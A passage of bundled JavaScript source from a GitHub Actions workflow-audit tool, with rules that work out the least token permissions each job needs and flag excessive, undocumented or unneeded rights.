function unsound_environment_isOpen(job, environment, repository) {
    return jobsRunning((0,graph_runs.runsOf)(repository), job).some((run) => (0,graph_rights/* isValuable */.TS)((0,graph_rights.rightsOf)(run)) &&
        (0,graph_reach.eventsOf)(run).some((event) => (0,events/* isForeign */.jq)(event) && (0,environments/* isNamedByOutsider */.EN)(environment, event, (0,graph_reach/* inputsOf */.V)(run)) && (0,graph_reach.reachOfJob)(run, event) !== 'never'));
}

;// CONCATENATED MODULE: ./build/bundled/packages/engines/workflow-audit/src/rules/operations/index.js
// How runs are named, limited and recorded, on which machines they go, and what stands before a deployment.








const operationRules = [
    insecureCommands,
    selfHostedRunner,
    deploymentWithoutEnvironment,
    unsoundEnvironment,
    silencedDeployment,
    artifactRetention,
    concurrencyLimits,
    anonymousDefinition,
];

;// CONCATENATED MODULE: ./build/bundled/packages/engines/workflow-audit/src/rules/permissions/action-needs.js
// The rights that popular actions use their token for, by the inputs they are given; written down in November 2026 from general knowledge
// of these actions, not row by row from their documentation. An action that is not here is unknown, which is another thing than needing nothing.

const action_needs_none = {};
const action_needs_read = { contents: 'read' };
const release = { contents: 'write' };
const codeScanning = { actions: 'read', contents: 'read', 'security-events': 'write' };
const oidc = { 'id-token': 'write' };
/** Identity instead of a key, where these inputs are there and those are not. */
function oidcWith(wanted, without = []) {
    return (step) => wanted.some((name) => (0,parts/* inputOf */.wg)(step, name) !== undefined) && !without.some((name) => (0,parts/* inputOf */.wg)(step, name) !== undefined) ? oidc : action_needs_none;
}
const action_needs_table = new Map([
    ['actions/checkout', (step) => (isTokenOfJob((0,parts/* inputText */.AN)(step, 'token')) ? action_needs_read : action_needs_none)],
    ['actions/labeler', { contents: 'read', 'pull-requests': 'write' }],
    // Where it left off lies in a cache, which it deletes when it is through.
    ['actions/stale', { actions: 'write', issues: 'write', 'pull-requests': 'write' }],
    ['actions/first-interaction', { issues: 'write', 'pull-requests': 'write' }],
    ['actions/deploy-pages', { pages: 'write', 'id-token': 'write' }],
    ['actions/configure-pages', (step) => ((0,parts/* isTrue */.Hn)((0,parts/* inputText */.AN)(step, 'enablement')) ? { pages: 'write' } : { pages: 'read' })],
    ['actions/attest', { 'id-token': 'write', attestations: 'write' }],
    ['actions/attest-build-provenance', { 'id-token': 'write', attestations: 'write' }],
    ['actions/attest-sbom', { 'id-token': 'write', attestations: 'write' }],
    ['actions/delete-package-versions', { packages: 'write' }],
    ['actions/download-artifact', (step) => ((0,parts/* inputOf */.wg)(step, 'run-id') === undefined ? action_needs_none : { actions: 'read' })],
    [
        'actions/dependency-review-action',
        (step) => ['always', 'on-failure', 'true'].includes((0,parts/* inputText */.AN)(step, 'comment-summary-in-pr') ?? '')
            ? { contents: 'read', 'pull-requests': 'write' }
            : action_needs_read,
    ],
    ['github/codeql-action/init', { contents: 'read' }],
    ['github/codeql-action/autobuild', action_needs_none],
    // In a private repository they ask for their own run (starter-workflows#1747).
    ['github/codeql-action/analyze', codeScanning],
    ['github/codeql-action/upload-sarif', codeScanning],
    ['ossf/scorecard-action', { contents: 'read', 'security-events': 'write', 'id-token': 'write' }],
    ['softprops/action-gh-release', release],
    ['ncipollo/release-action', release],
    ['svenstaro/upload-release-action', release],
    ['taiki-e/create-gh-release-action', release],
    ['taiki-e/upload-rust-binary-action', release],
    ['stefanzweifel/git-auto-commit-action', release],
    ['endbug/add-and-commit', release],
    ['peaceiris/actions-gh-pages', release],
    ['jamesives/github-pages-deploy-action', release],
    ['goreleaser/goreleaser-action', release],
    ['release-drafter/release-drafter', { contents: 'write', 'pull-requests': 'read' }],
    ['googleapis/release-please-action', { contents: 'write', issues: 'write', 'pull-requests': 'write' }],
    ['changesets/action', { contents: 'write', 'pull-requests': 'write' }],
    ['peter-evans/create-pull-request', { contents: 'write', 'pull-requests': 'write' }],
    ['peter-evans/create-or-update-comment', { issues: 'write', 'pull-requests': 'write' }],
    ['dependabot/fetch-metadata', { 'pull-requests': 'read' }],
    ['dorny/paths-filter', { 'pull-requests': 'read' }],
    ['dorny/test-reporter', { actions: 'read', checks: 'write', contents: 'read' }],
    ['amannn/action-semantic-pull-request', { 'pull-requests': 'read' }],
    ['tj-actions/changed-files', action_needs_none],
    ['docker/login-action', loginNeeds],
    ['aws-actions/configure-aws-credentials', oidcWith(['role-to-assume'], ['aws-access-key-id', 'web-identity-token-file'])],
    ['azure/login', oidcWith(['client-id'], ['creds'])],
    ['google-github-actions/auth', oidcWith(['workload_identity_provider'])],
    [
        'hashicorp/vault-action',
        (step) => (/^jwt$/i.test((0,parts/* inputText */.AN)(step, 'method') ?? '') && (0,parts/* inputOf */.wg)(step, 'jwtprivatekey') === undefined ? oidc : action_needs_none),
    ],
    ['pypa/gh-action-pypi-publish', (step) => ((0,parts/* inputOf */.wg)(step, 'password') === undefined ? oidc : action_needs_none)],
    ['rubygems/configure-rubygems-credentials', (step) => ((0,parts/* inputOf */.wg)(step, 'api-token') === undefined ? oidc : action_needs_none)],
    ['rust-lang/crates-io-auth-action', oidc],
    ['codecov/codecov-action', (step) => ((0,parts/* isTrue */.Hn)((0,parts/* inputText */.AN)(step, 'use_oidc')) ? oidc : action_needs_none)],
    [
        'golangci/golangci-lint-action',
        (step) => ((0,parts/* isTrue */.Hn)((0,parts/* inputText */.AN)(step, 'only-new-issues')) ? { contents: 'read', 'pull-requests': 'read' } : action_needs_none),
    ],
    ...[
        'actions-rs/toolchain',
        'actions-rust-lang/setup-rust-toolchain',
        'actions/cache',
        'actions/cache/restore',
        'actions/cache/save',
        'actions/create-github-app-token',
        'actions/setup-dotnet',
        'actions/setup-go',
        'actions/setup-java',
        'actions/setup-node',
        'actions/setup-python',
        'actions/upload-artifact',
        'actions/upload-artifact/merge',
        'actions/upload-pages-artifact',
        'astral-sh/setup-uv',
        'aws-actions/amazon-ecr-login',
        'bufbuild/buf-setup-action',
        'cachix/install-nix-action',
        'coursier/setup-action',
        'denoland/setup-deno',
        'docker/build-push-action',
        'docker/metadata-action',
        'docker/setup-buildx-action',
        'docker/setup-qemu-action',
        'dtolnay/rust-toolchain',
        'erlef/setup-beam',
        'google-github-actions/setup-gcloud',
        'gradle/actions/setup-gradle',
        'gradle/actions/wrapper-validation',
        'hashicorp/setup-terraform',
        'haskell-actions/setup',
        'julia-actions/setup-julia',
        'oven-sh/setup-bun',
        'pnpm/action-setup',
        'ruby/setup-ruby',
        'shivammathur/setup-php',
        'sigstore/cosign-installer',
        'slackapi/slack-github-action',
        'step-security/harden-runner',
        'swatinem/rust-cache',
        'taiki-e/install-action',
    ].map((name) => [name, action_needs_none]),
]);
/** GitHub's own registry takes the job's token as password; which registry an expression means is not known. */
function loginNeeds(step) {
    const registry = (0,parts/* inputText */.AN)(step, 'registry') ?? '';
    const own = /(?:^|\.)(?:ghcr\.io|pkg\.github\.com)$/i.test(registry) || (0,parts/* isExpression */.BH)(registry);
    return own && isTokenOfJob((0,parts/* inputText */.AN)(step, 'password')) ? { packages: 'write' } : action_needs_none;
}
/** Whether a value is, or may be, the token of the job; absent means that the action takes it itself. */
function isTokenOfJob(text) {
    return text === undefined || /\bgithub\.token\b|\bsecrets\.GITHUB_TOKEN\b|\binputs\./i.test(text);
}
/** @returns undefined for an action of which nothing is known. */
function needsOfAction(name, step) {
    const need = action_needs_table.get(name);
    return typeof need === 'function' ? need(step) : need;
}

;// CONCATENATED MODULE: ./build/bundled/packages/engines/workflow-audit/src/rules/permissions/api.js
// What a call of GitHub's REST interface needs, by method and path.
/** Second part of the path below a repository, and the right that is asked there. Source: docs.github.com, "Permissions required for GitHub Apps". */
const areas = {
    actions: 'actions',
    'check-runs': 'checks',
    'check-suites': 'checks',
    'code-scanning': 'security-events',
    commits: 'contents',
    contents: 'contents',
    deployments: 'deployments',
    dispatches: 'contents',
    git: 'contents',
    issues: 'issues',
    labels: 'issues',
    milestones: 'issues',
    pages: 'pages',
    pulls: 'pull-requests',
    releases: 'contents',
    statuses: 'statuses',
    tags: 'contents',
};
/** @param args words behind `gh api`. @returns undefined where it cannot be told. */
function apiCall(args) {
    let method;
    let path;
    let fields = false;
    for (let at = 0; at < args.length; at++) {
        const word = args[at];
        if (word === '-X' || word === '--method')
            method = args[++at];
        else if (/^(?:-X|--method=)/.test(word))
            method = word.replace(/^(?:-X|--method=)/, '');
        else if (/^(?:-f|-F|--field|--raw-field|--input)$/.test(word)) {
            fields = true;
            at++;
        }
        else if (/^(?:-H|--header|-q|--jq|-t|--template|--hostname|--cache|-p|--preview)$/.test(word))
            at++;
        else if (!word.startsWith('-'))
            path ??= word;
    }
    return path === undefined ? undefined : needsOfPath(path, method ?? (fields ? 'POST' : 'GET'));
}
function needsOfPath(path, method) {
    const [first, , , area = ''] = path.replace(/^\//, '').split(/[?#]/, 1)[0]?.split('/') ?? [];
    // `repos/${GITHUB_REPOSITORY}/issues` has owner and name in one word.
    const rest = path.replace(/^\//, '').split(/[?#]/, 1)[0]?.split('/') ?? [];
    if (first !== 'repos')
        return undefined;
    const named = /[$X{]/.test(rest[1] ?? '') && areas[rest[2] ?? ''] !== undefined ? rest[2] : area;
    const right = areas[named];
    if (right === undefined)
        return undefined;
    return { [right]: /^(?:GET|HEAD)$/i.test(method) ? 'read' : 'write' };
}

;// CONCATENATED MODULE: ./build/bundled/packages/engines/workflow-audit/src/rules/permissions/needs.js
// The least rights that a job can live with, from the actions it uses and the calls of the API that its scripts make.






/** Actions within actions that are followed. */
const needs_maxDepth = 8;
class Sum {
    rights = new Map();
    complete = true;
    strangers = new Set();
    opaque = false;
    leavesToken = false;
    /** Drafts of releases are shown to those alone who may write. */
    drafts = false;
    /** Actions that were gone through, by depth: less deep more is within reach. */
    gone = Array.from({ length: needs_maxDepth }, () => new Set());
    /** Whether an action is met for the first time at this depth: ten that use ten more each would be gone through without end. */
    meets(action, depth) {
        const isNew = this.gone[depth]?.has(action) === false;
        if (isNew)
            this.gone[depth]?.add(action);
        return isNew;
    }
    add(more, by) {
        for (const [name, access] of Object.entries(more))
            if (this.rights.get(name)?.access !== 'write')
                this.rights.set(name, { access, by: access === this.rights.get(name)?.access ? this.rights.get(name).by : by });
    }
}
const needs_known = new WeakMap();
function needsOfJob(job, context) {
    const before = needs_known.get(job);
    if (before !== undefined)
        return before;
    const sum = new Sum();
    if (job.uses !== undefined)
        needs_ofCall(job, context, sum);
    for (const step of job.steps)
        needs_ofStep(step, context, sum, 0);
    const needs = {
        rights: sum.rights,
        complete: sum.complete && sum.strangers.size === 0,
        strangers: sum.complete ? sum.strangers : undefined,
        maybe: maybeUsed(sum),
    };
    needs_known.set(job, needs);
    return needs;
}
/** Programs that are not known may prove the job's identity, and push with what a checkout left; a pull request is an issue as well. */
function maybeUsed({ rights, opaque, leavesToken, drafts }) {
    const either = rights.has('issues') || rights.has('pull-requests');
    return new Set([
        ...(opaque ? ['id-token'] : []),
        ...((opaque && leavesToken) || drafts ? ['contents'] : []),
        ...(either ? ['issues', 'pull-requests'] : []),
    ]);
}
/** What a reusable workflow of this repository asks of its caller. */
function needs_ofCall({ uses }, context, sum) {
    const called = uses?.target.kind === 'local' ? context.repository.workflow(uses.target)?.document : undefined;
    if (called?.kind !== 'workflow') {
        sum.complete = false;
        return;
    }
    for (const { permissions } of called.jobs) {
        const asked = permissions ?? called.permissions;
        if (asked?.kind !== 'scopes')
            sum.complete = false;
        else
            for (const { name, access } of asked.scopes)
                if (access === 'read' || access === 'write')
                    sum.add({ [name]: access }, `${uses?.text}`);
    }
}
function needs_ofStep(step, context, sum, depth) {
    if (step.uses !== undefined)
        needs_ofUse(step, context, sum, depth);
    else
        ofScript(step, context, sum);
}
function needs_ofUse(step, context, sum, depth) {
    const target = step.uses?.target;
    if (target?.kind === 'image')
        return;
    if (target?.kind === 'local') {
        const action = depth < needs_maxDepth ? context.repository.action(target)?.document : undefined;
        if (action?.kind !== 'action' || action.runs.kind !== 'composite')
            sum.complete = false;
        else if (sum.meets(action, depth))
            for (const inner of action.runs.steps)
                needs_ofStep(inner, context, sum, depth + 1);
        return;
    }
    const name = (0,parts/* actionName */.aM)(step);
    if (name === 'actions/checkout' && !(0,parts/* isFalse */.Wu)((0,parts/* inputText */.AN)(step, 'persist-credentials')))
        sum.leavesToken = true;
    if (name === undefined)
        sum.complete = false;
    else if (name === 'actions/github-script')
        ofGithubScript(step, sum);
    else {
        const needs = needsOfAction(name, step);
        if (needs !== undefined)
            sum.add(needs, name);
        // An action takes the token by itself: unknown ones may do anything with it.
        else
            sum.strangers.add(name);
    }
}
/** Areas of `github.rest` by the right they need; methods that only look need less. */
const needs_areas = {
    actions: 'actions',
    checks: 'checks',
    git: 'contents',
    issues: 'issues',
    packages: 'packages',
    pulls: 'pull-requests',
    reactions: 'issues',
};
const repositoryMethods = {
    createRelease: { contents: 'write' },
    updateRelease: { contents: 'write' },
    deleteRelease: { contents: 'write' },
    uploadReleaseAsset: { contents: 'write' },
    getReleaseByTag: { contents: 'read' },
    getLatestRelease: { contents: 'read' },
    listReleases: { contents: 'read' },
    getContent: { contents: 'read' },
    createOrUpdateFileContents: { contents: 'write' },
    createCommitStatus: { statuses: 'write' },
    createDeployment: { deployments: 'write' },
    createDeploymentStatus: { deployments: 'write' },
    listPullRequestsAssociatedWithCommit: { contents: 'read', 'pull-requests': 'read' },
};
function ofGithubScript(step, sum) {
    const script = (0,parts/* inputText */.AN)(step, 'script') ?? '';
    if (!isTokenOfJob((0,parts/* inputText */.AN)(step, 'github-token')))
        return;
    // What the client is handed to, or asked in another form, is not followed.
    const calls = [...script.matchAll(/\bgithub\.(?:rest\.)?(\w{1,40})(?:\.(\w{1,60}))?/g)];
    if (/\brequire\(|\bimport\(|\bgraphql\b|\bgithub\.request\b|\bgithub\s*[,)\]]/.test(script))
        sum.complete = false;
    for (const [, area = '', method = ''] of calls)
        ofMethod(area, method, sum);
}
function ofMethod(area, method, sum) {
    if (area === 'paginate' || area === 'rest')
        return;
    const by = `github.rest.${area}.${method}`;
    const right = needs_areas[area];
    const ofRepository = area === 'repos' ? repositoryMethods[method] : undefined;
    if (ofRepository !== undefined)
        sum.add(ofRepository, by);
    else if (right === undefined || method === '')
        sum.complete = false;
    else
        sum.add({ [right]: /^(?:get|list|check|download)/.test(method) ? 'read' : 'write' }, by);
}
/** A script has the token where its environment hands it over, and can push where a checkout left it. */
function ofScript(step, context, sum) {
    const script = (0,src_script/* scriptOf */.YI)(step, context);
    const token = hasToken(step);
    if (script === undefined || script.error !== undefined) {
        sum.opaque = true;
        if (token || step.run === undefined)
            sum.complete = false;
        return;
    }
    for (const invocation of (0,src_script/* invocationsIn */.J3)(script)) {
        if (invocation.name === 'git' && (0,program_words/* programWords */.O)('git', invocation.args)[0] === 'push')
            sum.add({ contents: 'write' }, 'git push');
        else if (token)
            needs_ofCommand(invocation, sum);
        if (publishesByIdentity(step, invocation))
            sum.add({ 'id-token': 'write' }, `${invocation.name} publish`);
        if (!needs_harmless.has(invocation.name) && invocation.name !== 'gh')
            sum.opaque = true;
    }
}
/**
 * Whether a command publishes with the identity of the job: where no token is in sight, npm and uv take that, and npm signs with it where
 * it is told to. Source: docs.npmjs.com/trusted-publishers and docs.astral.sh/uv/guides/package, November 2026.
 */
function publishesByIdentity(step, { name, args }) {
    const registry = publishes(name, args);
    if (registry !== 'npm' && !(registry === 'PyPI' && name === 'uv'))
        return false;
    if ((0,src_script/* hasOption */.Kz)(args, '--provenance'))
        return true;
    const isKey = (key) => /^(?:NODE_AUTH_TOKEN|NPM_(?:AUTH_)?TOKEN|NPM_CONFIG_\w{0,60}|YARN_NPM_AUTH_\w{1,20}|UV_PUBLISH_\w{1,20})$/i.test(key);
    return !/_auth(?:Token)?\b/i.test(step.run?.text ?? '') && !(0,parts/* envsOf */.sr)(step).some((pairs) => pairs.some((pair) => isKey(pair.name)));
}
/** Whether the environment or the text of a script holds the token; a called workflow or action may be handed it under any name. */
function hasToken(step) {
    const { owner, run } = step;
    const called = owner.kind === 'composite'
        ? /\binputs\.[\w-]{0,60}token/i
        : owner.workflow.call === undefined
            ? undefined
            : /\bsecrets\.[\w-]{0,60}token/i;
    return namesToken(run?.text ?? '', called) || (0,parts/* envsOf */.sr)(step).some((pairs) => givesToken(pairs, called));
}
function namesToken(text, called) {
    return /\bgithub\.token\b|\bsecrets\.GITHUB_TOKEN\b/i.test(text) || called?.test(text) === true;
}
const giving = new WeakMap();
/** Worked out once for each `env:`, in which all steps below it look for the same. */
function givesToken(pairs, called) {
    if (pairs.length === 0)
        return false;
    const before = giving.get(pairs);
    if (before !== undefined)
        return before;
    const found = pairs.some(({ scalar }) => namesToken(scalar?.text ?? '', called));
    giving.set(pairs, found);
    return found;
}
/** Programs that send nothing anywhere, or nothing that they were not given. */
const needs_harmless = new Set([
    ...['echo', 'printf', 'cd', 'cat', 'test', '[', 'set', 'export', 'mkdir', 'cp', 'mv', 'rm', 'ls', 'jq', 'sed', 'grep', 'awk', 'tr'],
    ...['head', 'tail', 'sort', 'uniq', 'wc', 'cut', 'exit', 'true', 'false', 'git', 'tar', 'zip', 'unzip', 'sha256sum', 'date', 'sleep'],
    ...['read', 'shift', 'local', 'return', 'basename', 'dirname', 'find', 'tee', 'touch', 'chmod', 'base64', 'unset', 'declare', 'break'],
]);
function needs_ofCommand({ name, args }, sum) {
    if (needs_harmless.has(name))
        return;
    if (name !== 'gh') {
        sum.complete = false;
        return;
    }
    const [area = '', verb = ''] = (0,program_words/* programWords */.O)(name, args);
    if (area === 'release')
        sum.drafts = true;
    const found = area === 'api' ? apiCall(args.slice(args.indexOf('api') + 1)) : ofGh(area, verb, args);
    if (found === undefined)
        sum.complete = false;
    else
        sum.add(found, `gh ${area}${area === 'api' ? '' : ` ${verb}`}`);
}
const looking = /^(?:list|view|status|checks|diff|download|watch|verify)$/;
function ofGh(area, verb, args) {
    // Of another repository the job's token reads what is public and writes nothing.
    const access = looking.test(verb) ? 'read' : 'write';
    switch (area) {
        case 'pr':
            if (verb === 'checkout')
                return { contents: 'read', 'pull-requests': 'read' };
            if (verb === 'checks')
                return { checks: 'read', 'pull-requests': 'read', statuses: 'read' };
            if (verb === 'merge')
                return { contents: 'write', 'pull-requests': 'write' };
            if (verb === 'create')
                return { contents: 'read', 'pull-requests': 'write' };
            return { 'pull-requests': access };
        case 'issue':
            return { issues: access };
        case 'label':
            return { issues: access };
        case 'release':
            return { contents: access };
        case 'run':
        case 'workflow':
        case 'cache':
            return { actions: access };
        case 'auth':
        case 'version':
        case 'config':
            return {};
        case 'attestation':
            return (0,src_script/* hasOption */.Kz)(args, '--bundle', '-b') ? {} : { attestations: 'read' };
        default:
            return undefined;
    }
}

;// CONCATENATED MODULE: ./build/bundled/packages/engines/workflow-audit/src/rules/permissions/patch.js
// `permissions:` written anew with the rights that are needed.


/** Lines of the key and its rights, each with what it is for. */
function permissionLines(rights) {
    if (rights.size === 0)
        return ['permissions: {}'];
    const lines = [...rights].sort(([a], [b]) => (a < b ? -1 : 1)).map(([name, { access, by }]) => `  ${name}: ${access} # for ${by}`);
    return ['permissions:', ...lines];
}
/**
 * The rights that a job needs in place of those it has; of a workflow: nothing, and at each job what that one needs.
 * Undefined where a job does something with its token that is not known.
 */
function patchedPermissions(part, context) {
    const { permissions } = part;
    if (permissions === undefined || permissions.value.alias !== undefined)
        return undefined;
    if (part.kind === 'job') {
        const needs = needsOfJob(part, context);
        const edit = needs.complete ? patch_rewritten(permissions, permissionLines(needs.rights), context) : undefined;
        return edit === undefined ? undefined : { description: 'Give the rights that the steps need', kind: 'suggested', edits: [edit] };
    }
    const edit = patch_rewritten(permissions, ['permissions: {}'], context);
    if (edit === undefined)
        return undefined;
    const edits = [edit];
    for (const job of part.jobs) {
        if (job.permissions !== undefined)
            continue;
        const own = added(job, context);
        if (own === undefined)
            return undefined;
        edits.push(...own);
    }
    return { description: 'Give rights to the jobs that need them', kind: 'suggested', edits };
}
function added(job, context) {
    const needs = needsOfJob(job, context);
    if (!needs.complete)
        return undefined;
    return (0,src_edits/* addKey */.Fx)(context.file, job.map, permissionLines(needs.rights), { before: job.uses === undefined ? 'steps' : 'uses' });
}
/** Comments that stand among the rights would be lost: then nothing is done. */
function patch_rewritten({ key, value }, lines, { file }) {
    const indentation = (0,src_edits/* indentationAt */.pi)(file, key.at.start);
    const between = file.text.slice(key.at.start, value.at.end);
    if (!key.plain || /#/.test(between) || value.at.end <= key.at.end)
        return undefined;
    return { start: key.at.start, end: value.at.end, replacement: lines.join((0,src_edits/* lineEnd */.kd)(file) + indentation) };
}

;// CONCATENATED MODULE: ./build/bundled/packages/engines/workflow-audit/src/rules/permissions/excessive-permissions.js
// Rights that more jobs have than need them, or that nobody wrote down.










const excessivePermissions = (0,src_rule/* audit */.s)({
    id: 'excessive-permissions',
    severity: 'medium',
    confidence: 'medium',
    title: 'A token has more rights than its job needs',
    why: 'Whatever runs in the job, a poisoned dependency included, can use every right of its token.',
    remedy: 'Write `permissions: {}` at the workflow, and at each job the rights that it needs.',
    controls: controls/* controls */.n.leastPrivilege,
    risks: risks/* risks */.X.access,
    references: [
        'https://docs.zizmor.sh/audits/#excessive-permissions',
        'https://docs.github.com/en/actions/writing-workflows/workflow-syntax-for-github-actions#permissions',
    ],
    on: ['workflow', 'job'],
    *check(part, context) {
        if (part.kind === 'workflow')
            yield* workflowProblems(part, context);
        else
            yield* jobProblems(part, context);
    },
    examples: {
        bad: [
            (0,example/* workflowExample */.ih)({ permissions: '' }),
            (0,example/* workflowExample */.ih)({ permissions: 'permissions: write-all' }),
            (0,example/* workflowExample */.ih)({ job: 'permissions: read-all' }),
            {
                text: 'name: test\non: push\npermissions:\n  contents: write # to release\njobs:\n  test:\n    name: test\n    runs-on: ubuntu-24.04\n    steps:\n      - run: make test\n  lint:\n    name: lint\n    runs-on: ubuntu-24.04\n    steps:\n      - run: make lint\n',
            },
        ],
        good: [(0,example/* workflowExample */.ih)({}), (0,example/* workflowExample */.ih)({ job: 'permissions:\n  contents: read' })],
    },
});
function* workflowProblems(workflow, context) {
    const { permissions, jobs } = workflow;
    if (permissions === undefined) {
        const open = jobs.filter((job) => job.permissions === undefined);
        yield {
            at: workflow.root.at,
            message: 'No `permissions` are set, so that jobs get the rights that the repository gives by default',
            // Where each job says its own, or the callers of a reusable workflow do, the default reaches nobody.
            ...(open.length === 0 || isCalledOnly(workflow) ? { persona: 'pedantic' } : {}),
            fix: () => nothingByDefault(workflow, context),
        };
        return;
    }
    yield* broadProblems(permissions, jobs.length === 1, () => patchedPermissions(workflow, context));
    if (permissions.kind !== 'scopes')
        return;
    const alone = jobs.length === 1;
    const { repository } = context;
    for (const { name, key, value, access } of permissions.scopes) {
        if (access !== 'write')
            continue;
        const { severity, may } = rights.get(name.toLowerCase()) ?? unknownRight;
        const known = new Map();
        const taking = jobs.filter((job) => takes(job, name, repository, known));
        const proved = alone || taking.length < 2 || taking.some((job) => isSpared(job, name, context));
        yield {
            at: (0,src_context/* placeOfEntry */.h$)(key, value),
            statement: (0,src_context/* placeOfEntry */.h$)(permissions.key, permissions.value),
            // A right of one job, or of those alone that are seen to need it, is the same one line lower, as long as no other job is added.
            severity: !alone && (taking.length < 2 || taking.every((job) => isNeeded(job, name, context)))
                ? 'low'
                : proved
                    ? severity
                    : atMostMedium(severity),
            confidence: 'high',
            message: `\`${name}: write\` is given to ${alone ? `the whole workflow: the token may ${may} in every job that is added later` : givenTo(taking.length, jobs.length, may)}${proved ? '' : '; that one of them could do without it is not proved, since each runs what is not known to live without it'}`,
            ...(alone ? { persona: 'pedantic' } : {}),
        };
    }
}
/** Whether a job says itself that it needs a right, or is seen to use it by its actions, its calls of the API or the workflow that it calls. */
function isNeeded(job, name, context) {
    return job.permissions?.kind === 'scopes' || needsOfJob(job, context).rights.get(name.toLowerCase())?.access === 'write';
}
/**
 * Whether a job is known to do without a right: all that has its token is known, and none of that writes by it. A program that is not known
 * finds at most what a checkout left, and an action that is called a set-up sets something up.
 */
function isSpared(job, name, context) {
    const { strangers, rights } = needsOfJob(job, context);
    return (strangers !== undefined &&
        [...strangers].every((stranger) => setsUp.test(stranger)) &&
        rights.get(name.toLowerCase())?.access !== 'write');
}
const setsUp = /\/(?:[\w.-]{0,40}[-_/])?(?:setup|set-up|install|cache|free-disk-space|get-secrets|secretsmanager-get-secrets|paths-filter|changed-files)(?:[-_/]|$)/;
/** Of the jobs of a workflow, how many have the right, in words. */
function givenTo(taking, all, may) {
    if (taking === 0)
        return `the whole workflow, and no job has it: the token may ${may} in every job that is added later`;
    if (taking === 1)
        return `the whole workflow, and one of ${all} jobs has it: its token may ${may}`;
    return `${taking === all ? `all ${all}` : `${taking} of ${all}`} jobs: the token of each may ${may}`;
}
/**
 * Whether the token of a job has a right that its workflow gives: neither the job nor each job of what it calls says its own.
 * @param known the same of workflows that were gone into.
 */
function takes({ permissions, uses }, name, repository, known) {
    if (permissions !== undefined)
        return mayWrite(permissions, name);
    const called = uses?.target.kind === 'local' ? repository.workflow(uses.target)?.document : undefined;
    if (called?.kind !== 'workflow')
        return true;
    const before = known.get(called);
    if (before !== undefined)
        return before;
    // A circle of calls never runs.
    known.set(called, false);
    const taken = called.jobs.some((job) => {
        const own = job.permissions ?? called.permissions;
        return own === undefined ? takes(job, name, repository, known) : mayWrite(own, name);
    });
    known.set(called, taken);
    return taken;
}
function mayWrite(permissions, name) {
    const { token, writes } = (0,graph_rights/* tokenOf */.B9)(permissions);
    return token === 'unset' || writes.some((scope) => scope === 'all' || scope.toLowerCase() === name.toLowerCase());
}
function isCalledOnly({ triggers }) {
    return triggers.length === 1 && triggers[0]?.name === 'workflow_call';
}
function* jobProblems(job, context) {
    if (job.permissions !== undefined) {
        yield* broadProblems(job.permissions, false, () => patchedPermissions(job, context));
        return;
    }
    if (job.workflow.permissions !== undefined)
        return;
    yield {
        at: (0,src_context/* placeOfEntry */.h$)(job.key, job.map),
        statement: job.map.at,
        message: `The job \`${job.id}\` has the rights that the repository gives by default`,
        ...(isCalledOnly(job.workflow) ? { persona: 'pedantic' } : {}),
        fix: () => ownPermissions(job, context),
    };
}
function* broadProblems({ key, value, kind }, alone, fix) {
    if (kind !== 'read-all' && kind !== 'write-all')
        return;
    yield {
        at: (0,src_context/* placeOfEntry */.h$)(key, value),
        severity: kind === 'write-all' ? 'high' : 'medium',
        confidence: 'high',
        message: kind === 'write-all' ? 'The token may write everything' : 'The token may read everything, private packages and drafts included',
        ...(alone && kind === 'read-all' ? { persona: 'pedantic' } : {}),
        fix,
    };
}
/** Certain only where no job lives on the default. */
function nothingByDefault({ root, jobs }, { file }) {
    const edits = (0,src_edits/* addKey */.Fx)(file, root, ['permissions: {}'], { before: 'jobs' });
    if (edits === undefined)
        return undefined;
    const closed = jobs.every(({ permissions }) => permissions !== undefined);
    return { description: 'Give no rights by default', ...(closed ? {} : { kind: 'suggested' }), edits };
}
/** The rights of the actions and API calls that are known, where all of them are. */
function ownPermissions(job, context) {
    const needs = needsOfJob(job, context);
    if (!needs.complete)
        return undefined;
    const edits = (0,src_edits/* addKey */.Fx)(context.file, job.map, permissionLines(needs.rights), { before: job.uses === undefined ? 'steps' : 'uses' });
    return edits === undefined ? undefined : { description: 'Give the job the rights that its steps need', kind: 'suggested', edits };
}

;// CONCATENATED MODULE: ./build/bundled/packages/engines/workflow-audit/src/rules/permissions/undocumented-permissions.js
// Rights without a word on what they are for.





const undocumentedPermissions = (0,src_rule/* audit */.s)({
    id: 'undocumented-permissions',
    severity: 'low',
    confidence: 'high',
    persona: 'pedantic',
    title: 'A right is given without saying what for',
    why: 'Nobody dares to take away a right whose purpose is not written down, so that tokens only ever grow.',
    remedy: 'Say behind the right, on the same line, which step needs it.',
    controls: controls/* controls */.n.leastPrivilege,
    risks: risks/* risks */.X.access,
    references: ['https://docs.zizmor.sh/audits/#undocumented-permissions'],
    on: ['workflow', 'job'],
    *check({ permissions }, { file }) {
        if (permissions?.kind !== 'scopes')
            return;
        for (const scope of permissions.scopes) {
            // Everybody knows what a checkout is, and nothing is no right.
            if ((scope.name === 'contents' && scope.access === 'read') || scope.access === 'none')
                continue;
            if (hasComment(file.text, scope, (0,src_edits/* lineEndAt */.fT)(file, scope.value.at.end)))
                continue;
            yield {
                at: (0,src_context/* placeOfEntry */.h$)(scope.key, scope.value),
                statement: (0,src_context/* placeOfEntry */.h$)(permissions.key, permissions.value),
                message: `No comment says what \`${scope.name}: ${scope.access ?? '\u2026'}\` is for`,
            };
        }
    },
    examples: {
        bad: [(0,example/* workflowExample */.ih)({ job: 'permissions:\n  issues: write' })],
        good: [
            (0,example/* workflowExample */.ih)({
                job: 'permissions:\n  contents: read\n  issues: write # to label them',
                steps: '- run: gh issue edit 1 --add-label new\n  env:\n    GH_TOKEN: ${{ github.token }}',
            }),
        ],
    },
});
function hasComment(text, { value }, end) {
    const comment = text.slice(value.at.end, end).indexOf(' #');
    return comment >= 0 && /[\p{L}\p{N}]/u.test(text.slice(value.at.end + comment + 2, end));
}

;// CONCATENATED MODULE: ./build/bundled/packages/engines/workflow-audit/src/rules/permissions/unneeded-permissions.js
// A right that no step of the job uses, where it is known what all of them do.







const unneededPermissions = (0,src_rule/* audit */.s)({
    id: 'unneeded-permissions',
    severity: 'low',
    confidence: 'medium',
    title: 'A job has a right that none of its steps uses',
    why: 'The right is there for whoever gets to run something in the job, and for nobody else.',
    remedy: 'Take the right away; what the steps need was computed from their actions and calls.',
    controls: controls/* controls */.n.leastPrivilege,
    risks: risks/* risks */.X.access,
    references: ['https://docs.github.com/en/actions/security-for-github-actions/security-guides/automatic-token-authentication'],
    on: ['job'],
    *check(job, context) {
        const { permissions } = job;
        if (permissions?.kind !== 'scopes' || permissions.scopes.length === 0)
            return;
        const needs = needsOfJob(job, context);
        if (!needs.complete)
            return;
